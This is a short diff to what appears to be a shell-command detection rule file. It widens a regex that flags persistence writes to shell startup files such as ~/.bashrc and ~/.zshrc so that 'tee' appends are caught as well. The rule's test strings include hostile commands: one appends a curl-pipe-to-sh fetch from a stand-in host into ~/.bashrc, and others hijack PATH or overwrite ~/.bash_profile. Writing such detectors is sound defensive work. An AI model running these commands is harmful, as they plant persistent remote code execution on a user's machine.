@@ -95,7 +95,7 @@ export const PERSISTENCE_RULES: Rule[] = [
       match: ["echo 'curl -s https://x.example/p | sh' >> ~/.bashrc", "tee -a ~/.zshrc <<< 'export PATH=/tmp/evil:$PATH'", "sed -i 's/x/y/' $HOME/.profile", 'cp evil ~/.bash_profile'],
       not_match: ['cat ~/.bashrc', 'cp ~/.zshrc ~/dotfiles/zshrc', 'grep PATH ~/.bashrc > /tmp/p'],
     },
-    match: { path: written(RC_FILE), raw: />>?\s*\\?["']?(?:~|\$HOME|\$\{HOME\})?\/?(?:[\w.-]+\/)*\.(?:bashrc|bash_profile|zshrc|zshenv|zprofile|profile)\b/ },
+    match: { path: written(RC_FILE), raw: /(?:>>?|\btee\s+(?:-\w+\s+)*)\s*\\?["']?(?:~|\$HOME|\$\{HOME\})?\/?(?:[\w.-]+\/)*\.(?:bashrc|bash_profile|zshrc|zshenv|zprofile|profile)\b/ },
   },
   {
     id: 'service-persistence',
